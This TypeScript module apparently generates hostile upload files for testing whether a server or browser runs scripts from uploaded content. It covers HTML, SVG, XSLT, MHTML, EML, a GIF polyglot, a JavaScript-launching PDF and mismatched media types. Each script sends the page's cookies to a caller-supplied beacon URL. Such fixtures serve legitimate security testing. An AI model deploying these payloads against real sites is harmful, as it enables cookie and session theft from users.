/** Files that run a script if a browser opens them as documents; each script sends a request to a beacon. */

/** A file of an attacker. */
export interface HostileFile {
  readonly name: string;
  /** The media type that the client of the attacker declares. */
  readonly type: string;
  readonly content: string | Uint8Array<ArrayBuffer>;
}

/** The script: sends its name and its cookies to the beacon, and opens a dialog. */
function script(beacon: string, who: string): string {
  return `var s=new Image();s.src='${beacon}?${who}='+encodeURIComponent((function(){try{return document.cookie}catch(e){return e.name}})());alert('${who}')`;
}

const html = (beacon: string, who: string): string =>
  `<!doctype html><title>hostile</title><img src="${beacon}?${who}-image"><script>${script(beacon, who)}</script>` +
  `<meta http-equiv="refresh" content="0;url=${beacon}?${who}-refresh"><body onload="${
    script(beacon, `${who}-onload`)
  }">`;

/** All kinds of files that may run a script, with usual and unusual extensions. */
export function hostileFiles(beacon: string): readonly HostileFile[] {
  const xhtmlScript = (who: string): string =>
    `<script xmlns="http://www.w3.org/1999/xhtml">${script(beacon, who)}</script>`;
  const svg = (who: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="32" height="16" onload="${script(beacon, `${who}-onload`)}">` +
    `<style>rect{fill:#f00}</style><rect width="32" height="16"/><script>${script(beacon, who)}</script></svg>`;
  const sheet = '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
    `<xsl:template match="/"><html><body><script>${
      script(beacon, "xslt")
    }</script></body></html></xsl:template></xsl:stylesheet>`;
  const mhtml = (who: string): string =>
    [
      "From: <Saved by Blink>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; type="text/html"; boundary="b"',
      "",
      "--b",
      "Content-Type: text/html",
      "Content-Location: http://example.com/",
      "",
      html(beacon, who),
      "--b--",
      "",
    ].join("\r\n");
  const xml = `<?xml version="1.0"?><a>${xhtmlScript("xml")}</a>`;
  return [
    { name: "page.html", type: "text/html", content: html(beacon, "html") },
    { name: "page.htm", type: "TEXT/HTML\t; charset=utf-7", content: html(beacon, "htm") },
    {
      name: "page.xhtml",
      type: "application/xhtml+xml",
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><body>${xhtmlScript("xhtml")}</body></html>`,
    },
    { name: "data.xml", type: "text/xml", content: xml },
    { name: "feed.rss", type: "application/rss+xml", content: xml },
    { name: "image.svg", type: "image/svg+xml", content: svg("svg") },
    { name: "sheet.xml", type: "application/xml", content: sheet },
    {
      name: "styled.xml",
      type: "text/xml",
      content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xml"?><a/>',
    },
    { name: "archive.mhtml", type: "multipart/related", content: mhtml("mhtml") },
    { name: "mail.eml", type: "message/rfc822", content: mhtml("eml") },
    { name: "text.txt", type: "text/html", content: html(beacon, "txt") },
    { name: "data.bin", type: "text/html", content: html(beacon, "bin") },
    { name: "noextension", type: "text/html", content: html(beacon, "none") },
    { name: "undeclared", type: "", content: html(beacon, "undeclared") },
    { name: "picture.png", type: "text/html", content: html(beacon, "png") },
    { name: "vector.png", type: "image/svg+xml", content: svg("svg-png") },
    { name: "film.mp4", type: "video/mp4", content: html(beacon, "mp4") },
    { name: "sound.mp3", type: "audio/mpeg", content: html(beacon, "mp3") },
    { name: "evil.unknown", type: "image/evil+xml", content: xml },
    { name: "polyglot.gif", type: "image/gif", content: `GIF89a/*\x01\0\0\0*/=1;${script(beacon, "gif")}` },
    { name: "code.js", type: "text/javascript", content: script(beacon, "js") },
    { name: "document.pdf", type: "application/pdf", content: pdf("app.alert\\('pdf'\\)") },
    { name: "document", type: "application/pdf", content: pdf("app.alert\\('pdf'\\)") },
  ];
}

/** An empty PDF that runs a script when it is opened. Source: ISO 32000-1. */
function pdf(code: string): string {
  const objects = [
    "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    `<</Type/Action/S/JavaScript/JS(${code})>>`,
  ];
  let text = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}`;
  return `${text}${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
}
